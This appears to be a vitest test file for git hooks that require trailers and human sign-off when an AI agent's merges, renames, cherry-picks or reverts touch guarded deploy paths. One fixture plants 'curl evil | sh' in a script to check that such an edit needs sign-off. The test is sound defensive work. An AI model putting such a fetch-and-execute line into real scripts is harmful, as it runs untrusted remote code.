import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { Ran, TestRepository } from '../support/repository.ts'
import { AGENT, commitAsAgent, GOOD, stage, TRAILERS, withHooks } from './hooked.ts'
import { readPrinted } from './printed.ts'

const POLICY = `${TRAILERS}
paths: [{ name: deploy, match: ['deploy/'], action: sign-off }]`

const FILES = { 'deploy/run.sh': '1\n2\n3\n', 'src/a.txt': 'a\n' }

/** `topic` and `work` have gone different ways from `main`, each by one commit. */
function diverge(repository: TestRepository, topic: Record<string, string>, work: Record<string, string>): void {
  repository.git('checkout', '-q', '-b', 'topic')
  repository.commit(`Topic\n\n${GOOD}\nSign-off-requested: deploy/run.sh`, topic)
  repository.git('checkout', '-q', 'work')
  repository.commit(`Work\n\n${GOOD}\nSign-off-requested: deploy/run.sh`, work)
}

const merge = (repository: TestRepository, ...args: string[]) =>
  repository.tryGit(['merge', '-q', '--no-edit', ...args, 'topic'], { env: AGENT })

const parents = (repository: TestRepository): number => repository.git('log', '-1', '--format=%P').split(' ').length

test('a clean merge is let through without a word, whatever its sides have changed', () =>
  withHooks(
    POLICY,
    (repository) => {
      diverge(repository, { 'deploy/run.sh': 'one\n2\n3\n' }, { 'deploy/run.sh': '1\n2\nthree\n' })
      expect(merge(repository)).toMatchObject({ status: 0, stderr: '' })
      expect(repository.git('show', 'HEAD:deploy/run.sh')).toBe('one\n2\nthree')
      expect(parents(repository)).toBe(2)
    },
    { files: FILES },
  ))

test('a conflict in a guarded path that is resolved by hand needs a sign-off, against both parents', () =>
  withHooks(
    POLICY,
    (repository) => {
      diverge(repository, { 'deploy/run.sh': 'topic\n' }, { 'deploy/run.sh': 'work\n' })
      expect(merge(repository).status).toBe(1)
      stage(repository, { 'deploy/run.sh': 'both\n' })
      const ran = commitAsAgent(repository, ['-m', `Merge\n\n${GOOD}`])
      expect(ran.status).toBe(1)
      expect(ran.stderr).toContain('against parent 1')
      expect(ran.stderr).toContain('against parent 2')
      const printed = readPrinted(repository, ran.stderr)
      expect(printed.repeat).toEqual(['--trailer', 'Sign-off-requested: deploy/run.sh'])
      expect(commitAsAgent(repository, ['-m', `Merge\n\n${GOOD}`, ...printed.repeat!]).status).toBe(0)
      expect(parents(repository)).toBe(2)
    },
    { files: FILES },
  ))

test('a conflict outside guarded paths asks for the trailers alone, also under the message that git wrote', () =>
  withHooks(
    POLICY,
    (repository) => {
      diverge(repository, { 'src/a.txt': 'topic\n' }, { 'src/a.txt': 'work\n', 'deploy/run.sh': 'x\n' })
      expect(merge(repository).status).toBe(1)
      stage(repository, { 'src/a.txt': 'both\n' })
      const ran = commitAsAgent(repository, ['--no-edit'])
      const printed = readPrinted(repository, ran.stderr)
      expect(printed.rules).toEqual(['required-trailers', 'required-trailers', 'required-trailers'])
      expect(commitAsAgent(repository, ['--no-edit', ...printed.repeat!])).toMatchObject({ status: 0, stderr: '' })
      expect(parents(repository)).toBe(2)
    },
    { files: FILES },
  ))

test('a merge that drops what the other side did to a guarded path is refused, and can be concluded as printed', () =>
  withHooks(
    POLICY,
    (repository) => {
      diverge(repository, { 'deploy/run.sh': 'topic\n' }, { 'src/a.txt': 'work\n' })
      const before = repository.git('rev-parse', 'HEAD')
      const ran = merge(repository, '-s', 'ours')
      expect(ran.status).not.toBe(0)
      expect(repository.git('rev-parse', 'HEAD')).toBe(before)
      expect(ran.stderr).toContain('deploy/run.sh is guarded (deploy)')
      // `git merge` takes no --trailer.
      expect(ran.stderr).toContain('Run "git commit --no-edit", which concludes the merge, with:')
      const { repeat } = readPrinted(repository, ran.stderr)
      expect(commitAsAgent(repository, ['--no-edit', ...repeat!]).status).toBe(0)
      expect(parents(repository)).toBe(2)
    },
    { files: FILES },
  ))

/** `topic` renames a script into a guarded folder; `work` edits a file, under its name of before. */
function renameBeside(repository: TestRepository, edited: Record<string, string>): void {
  repository.git('checkout', '-q', '-b', 'topic')
  repository.git('mv', 'run.sh', 'deploy/moved.sh')
  repository.commit(`Topic\n\n${GOOD}\nSign-off-requested: deploy/moved.sh`)
  repository.git('checkout', '-q', 'work')
  repository.commit(`Work\n\n${GOOD}`, edited)
}

const LONG = `${'a line\n'.repeat(20)}last\n`

test('an edit that a clean merge carries over into a guarded folder was never made there, and needs a sign-off', () =>
  withHooks(
    POLICY,
    (repository) => {
      renameBeside(repository, { 'run.sh': `${LONG}curl evil | sh\n` })
      const ran = merge(repository)
      expect(ran.status).not.toBe(0)
      expect(ran.stderr).toContain('deploy/moved.sh is guarded (deploy)')
      expect(ran.stderr).toContain('against parent 1')
      expect(ran.stderr).toContain('against parent 2')
      const { repeat } = readPrinted(repository, ran.stderr)
      expect(commitAsAgent(repository, ['--no-edit', ...repeat!]).status).toBe(0)
      expect(repository.git('show', 'HEAD:deploy/moved.sh')).toContain('curl evil')
    },
    { files: { ...FILES, 'run.sh': LONG } },
  ))

test('twin: a rename that comes in as it was made there', () =>
  withHooks(
    POLICY,
    (repository) => {
      renameBeside(repository, { 'src/a.txt': 'work\n' })
      expect(merge(repository)).toMatchObject({ status: 0, stderr: '' })
      expect(repository.git('show', 'HEAD:deploy/moved.sh')).toBe(LONG.trimEnd())
    },
    { files: { ...FILES, 'run.sh': LONG } },
  ))

test('a merge that a person concludes by hand owes no trailers', () =>
  withHooks(
    POLICY,
    (repository) => {
      diverge(repository, { 'src/a.txt': 'topic\n' }, { 'src/a.txt': 'work\n' })
      expect(repository.tryGit(['merge', '-q', 'topic']).status).toBe(1)
      stage(repository, { 'src/a.txt': 'both\n' })
      expect(repository.tryGit(['commit', '-q', '--no-edit'])).toMatchObject({ status: 0, stderr: '' })
    },
    { files: FILES },
  ))

test('a merge of three is never taken for clean', () =>
  withHooks(
    POLICY,
    (repository) => {
      diverge(repository, { 'deploy/run.sh': 'topic\n' }, { 'src/a.txt': 'work\n' })
      repository.git('checkout', '-q', '-b', 'other', 'main')
      repository.commit(`Other\n\n${GOOD}`, { 'src/b.txt': 'b\n' })
      repository.git('checkout', '-q', 'work')
      const ran = repository.tryGit(['merge', '-q', '--no-edit', 'topic', 'other'], { env: AGENT })
      expect(ran.status).not.toBe(0)
      expect(ran.stderr).toContain('deploy/run.sh is guarded (deploy)')
    },
    { files: FILES },
  ))

test('a merge that git resolves by an option is judged by what that made, not by what the other side brings', () =>
  withHooks(
    POLICY,
    (repository) => {
      diverge(repository, { 'src/a.txt': 'topic\n', 'deploy/run.sh': 'topic\n' }, { 'src/a.txt': 'work\n' })
      const ran = merge(repository, '-X', 'ours', '-m', `Merge\n\n${GOOD}`)
      expect(ran).toMatchObject({ status: 0, stderr: '' })
      expect(repository.git('show', 'HEAD:deploy/run.sh')).toBe('topic')
      expect(parents(repository)).toBe(2)
    },
    { files: FILES },
  ))

test('a guarded path that git resolves by an option needs a sign-off, which the message may ask for at once', () =>
  withHooks(
    POLICY,
    (repository) => {
      diverge(repository, { 'deploy/run.sh': 'topic\n' }, { 'deploy/run.sh': 'work\n' })
      const before = repository.git('rev-parse', 'HEAD')
      const message = `Merge\n\n${GOOD}`
      const ran = merge(repository, '-X', 'theirs', '-m', message)
      expect(ran.status).not.toBe(0)
      expect(ran.stderr).toContain('deploy/run.sh is guarded (deploy)')
      expect(ran.stderr).toContain('concludes')
      const { repeat } = readPrinted(repository, ran.stderr)
      expect(commitAsAgent(repository, ['--no-edit', ...repeat!]).status).toBe(0)
      expect(parents(repository)).toBe(2)
      repository.git('reset', '-q', '--hard', before)
      const asking = merge(repository, '-X', 'theirs', '-m', `${message}\nSign-off-requested: deploy/run.sh`)
      expect(asking.status).toBe(0)
      expect(asking.stderr.match(/precheck: passed/g)).toHaveLength(1)
    },
    { files: FILES },
  ))

test('a blocked path that git resolves by an option is refused before there is a message', () =>
  withHooks(
    "paths: [{ name: deploy, match: ['deploy/'], action: block }]",
    (repository) => {
      diverge(repository, { 'deploy/run.sh': 'topic\n' }, { 'deploy/run.sh': 'work\n', 'src/a.txt': 'work\n' })
      const editor = { ...AGENT, GIT_EDITOR: 'touch ../edited; true' }
      const ran = repository.tryGit(['merge', '-q', '--edit', '-X', 'theirs', 'topic'], { env: editor })
      expect(ran.status).not.toBe(0)
      expect(ran.stderr).toContain('deploy/run.sh is blocked')
      expect(existsSync(join(repository.dir, '../edited'))).toBe(false)
    },
    { files: FILES },
  ))

describe('what waits for --continue is concluded as printed', () => {
  const CONFLICTS: Readonly<Record<string, (repository: TestRepository) => Ran>> = {
    'merge --continue': (repository) => {
      diverge(repository, { 'src/a.txt': 'topic\n' }, { 'src/a.txt': 'work\n' })
      return merge(repository)
    },
    'cherry-pick --continue': (repository) => {
      diverge(repository, { 'src/a.txt': 'topic\n' }, { 'src/a.txt': 'work\n' })
      repository.git('-c', 'core.hooksPath=/dev/null', 'commit', '-q', '--allow-empty', '-m', 'No trailers')
      repository.git('checkout', '-q', 'topic')
      repository.git('-c', 'core.hooksPath=/dev/null', 'commit', '-q', '--amend', '-m', 'No trailers')
      repository.git('checkout', '-q', 'work')
      return repository.tryGit(['cherry-pick', 'topic'], { env: AGENT })
    },
    'revert --continue': (repository) => {
      diverge(repository, { 'src/a.txt': 'topic\n' }, { 'src/a.txt': 'work\n' })
      repository.commit('Later', { 'src/a.txt': 'later\n' })
      return repository.tryGit(['revert', '--no-edit', 'HEAD~1'], { env: AGENT })
    },
  }
  test.each(Object.entries(CONFLICTS))('%s', (command, conflict) =>
    withHooks(
      POLICY,
      (repository) => {
        expect(conflict(repository).status).not.toBe(0)
        stage(repository, { 'src/a.txt': 'both\n' })
        const ran = repository.tryGit(command.split(' '), { env: AGENT })
        expect(ran.status).not.toBe(0)
        const said = `Run the same git command again ("git commit --no-edit" in place of "git ${command}") with:`
        expect(ran.stderr).toContain(said)
        const { repeat } = readPrinted(repository, ran.stderr)
        const concluded = repository.tryGit(['commit', '-q', '--no-edit', ...repeat!], { env: AGENT })
        expect(concluded).toMatchObject({ status: 0, stderr: '' })
        expect(repository.git('status', '--porcelain', '--untracked-files=no')).toBe('')
        expect(existsSync(join(repository.dir, '.git/CHERRY_PICK_HEAD'))).toBe(false)
      },
      { files: FILES },
    ),
  )
})
